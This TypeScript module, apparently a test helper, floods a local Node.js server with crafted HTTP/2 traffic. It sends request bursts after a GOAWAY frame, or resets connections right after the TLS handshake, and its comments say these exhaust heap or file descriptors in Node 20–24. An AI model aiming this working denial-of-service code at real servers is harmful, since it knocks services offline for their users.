import { connect as connectTcp } from 'node:net';
import { connect } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** `GET / HTTP/2` to the host x, in HPACK. */
const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x41, 1, 'x'.charCodeAt(0)]);
const TIMEOUT_MS = 5000;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));
const GOAWAY = frame(7, 0, 0, Buffer.alloc(8));

function requests(count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => frame(1, 5, 2 * i + 1, REQUEST)));
}

/** What one connection does: Node 20 loses its heap by the first, and up to Node 24 its descriptors by the second. */
export type Http2Attack = 'requests behind a GOAWAY' | 'a reset after the handshake';

/** Attacks once by each of many connections; resolves when all are closed. */
export async function attackByHttp2(port: number, attack: Http2Attack, connections: number): Promise<void> {
  for (let done = 0; done < connections; done += 20) {
    await Promise.all(Array.from({ length: 20 }, (_, i) => once(port, attack, done + i)));
  }
}

function once(port: number, attack: Http2Attack, seed: number): Promise<void> {
  return new Promise((resolve) => {
    const tcp = connectTcp(port, '127.0.0.1');
    const tls = connect({ socket: tcp, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
    const timer = setTimeout(() => tcp.destroy(), TIMEOUT_MS);
    for (const socket of [tcp, tls]) socket.on('error', () => {}); // the server has closed it
    tcp.once('close', () => {
      clearTimeout(timer);
      resolve();
    });
    tls.resume().once('secureConnect', () => {
      if (attack === 'a reset after the handshake') {
        setTimeout(() => tcp.resetAndDestroy(), seed % 5);
      } else {
        tls.write(Buffer.concat([PREFACE, SETTINGS, GOAWAY, requests(20 + (seed % 70))]));
        setTimeout(() => tcp.destroy(), 200);
      }
    });
  });
}
